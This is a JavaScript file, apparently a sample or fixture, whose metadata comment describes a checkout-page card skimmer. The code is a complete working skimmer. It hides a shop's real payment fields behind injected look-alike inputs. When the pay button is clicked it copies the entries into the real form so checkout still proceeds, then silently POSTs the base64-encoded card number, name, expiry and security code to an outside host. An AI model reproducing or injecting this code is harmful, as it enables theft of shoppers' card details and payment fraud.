/* meta
{
  "design": "Puts card fields of its own in place of the shop's, sends what is typed there when the pay button is pressed, and hands it on to the real form.",
  "reads": ["*"],
  "sendsTo": "secure.cardframe.localhost",
  "delivery": { "kind": "inline", "pages": "^/checkout" },
  "alone": true,
  "fields": { "cc-number": "#cf-1", "cc-name": "#cf-2", "cc-exp": "#cf-3", "cc-csc": "#cf-4" }
}
*/
(function () {
  var real = ['cc-number', 'cc-name', 'cc-exp', 'cc-csc'];
  var labels = ['Card number', 'Name on card', 'Expiry date (MM / YY)', 'Security code'];
  var box = document.querySelector('.payment');
  if (!box) return;
  var mask = document.createElement('div');
  mask.className = 'cf-wrap';
  mask.innerHTML = labels.map(function (text, i) {
    return '<label>' + text + '<input id="cf-' + (i + 1) + '" autocomplete="off"></label>';
  }).join('');
  real.forEach(function (id) { document.getElementById(id).parentNode.style.display = 'none'; });
  box.appendChild(mask);

  document.getElementById('pay').addEventListener('click', function () {
    var got = real.map(function (id, i) {
      var shown = document.getElementById('cf-' + (i + 1)), under = document.getElementById(id);
      under.value = shown.value;
      under.dispatchEvent(new Event('input', { bubbles: true }));
      return shown.value;
    });
    if (got[0].length < 13) return;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://secure.cardframe.localhost/api/pay');
    x.setRequestHeader('Content-Type', 'text/plain');
    x.send(btoa(got.join('|')));
  }, true);
})();
